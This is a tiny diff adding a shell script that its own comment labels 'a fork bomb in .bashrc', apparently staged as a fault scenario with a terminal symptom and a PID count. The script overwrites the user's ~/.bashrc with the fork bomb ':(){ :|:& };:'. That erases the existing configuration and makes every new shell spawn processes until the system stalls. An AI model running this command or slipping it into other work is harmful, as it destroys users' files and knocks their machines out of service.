@@ -1,0 +1,5 @@
+# a fork bomb in .bashrc
+# symptom: terminal
+# pids: 150
+set -e
+echo ':(){ :|:& };:' > ~/.bashrc
